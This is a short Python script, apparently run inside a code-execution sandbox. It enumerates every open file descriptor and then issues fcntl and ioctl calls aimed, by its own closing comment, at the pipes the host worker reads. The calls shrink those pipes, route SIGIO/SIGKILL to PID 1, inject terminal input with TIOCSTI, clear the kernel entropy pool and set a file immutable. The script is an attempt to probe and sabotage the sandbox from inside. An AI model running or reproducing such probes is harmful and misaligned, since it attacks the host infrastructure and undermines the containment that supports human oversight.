global fcntl, stat
import fcntl
import stat

seen = []
for fd in range(0, 70):
    try:
        mode = os.fstat(fd).st_mode
        seen.append((fd, stat.S_IFMT(mode), fcntl.fcntl(fd, fcntl.F_GETFL)))
    except Exception:
        pass
results = []
for call in (
    lambda: fcntl.fcntl(3, 1031, 4096),
    lambda: fcntl.fcntl(2, 1031, 4096),
    lambda: fcntl.fcntl(3, fcntl.F_SETOWN, 1),
    lambda: fcntl.fcntl(3, fcntl.F_SETSIG, 9),
    lambda: fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
    lambda: fcntl.fcntl(0, fcntl.F_SETFL, os.O_ASYNC),
    lambda: fcntl.fcntl(os.open("/mnt/data", os.O_RDONLY), fcntl.F_NOTIFY, 0x8000003F),
    lambda: fcntl.fcntl(os.open("/mnt/data/image.jpg", os.O_RDONLY), 1024, 0),
    lambda: fcntl.ioctl(3, 0x541B, b"\0" * 4),
    lambda: fcntl.ioctl(0, 0x5412, b"x"),
    lambda: fcntl.ioctl(os.open("/dev/urandom", os.O_RDWR), 0x40085203, b"\0" * 8),
    lambda: fcntl.ioctl(os.open("/dev/urandom", os.O_RDWR), 0x5206),
    lambda: fcntl.ioctl(
        os.open("/mnt/data/image.jpg", os.O_RDONLY), 0x40086602, b"\x10\0\0\0\0\0\0\0"
    ),
):
    try:
        results.append(call())
    except Exception as exc:
        results.append(str(exc))
os.write(3, b"")
print(seen)
print(results)
# every descriptor the guest holds, and fcntl/ioctl on the pipes the worker reads (pipe
# shrunk with F_SETPIPE_SZ, SIGIO/F_SETOWN to PID 1, O_ASYNC), dnotify on its folder,
# a lease, FIONREAD, TIOCSTI, RNDADDTOENTCNT/RNDCLEARPOOL, FS_IOC_SETFLAGS immutable
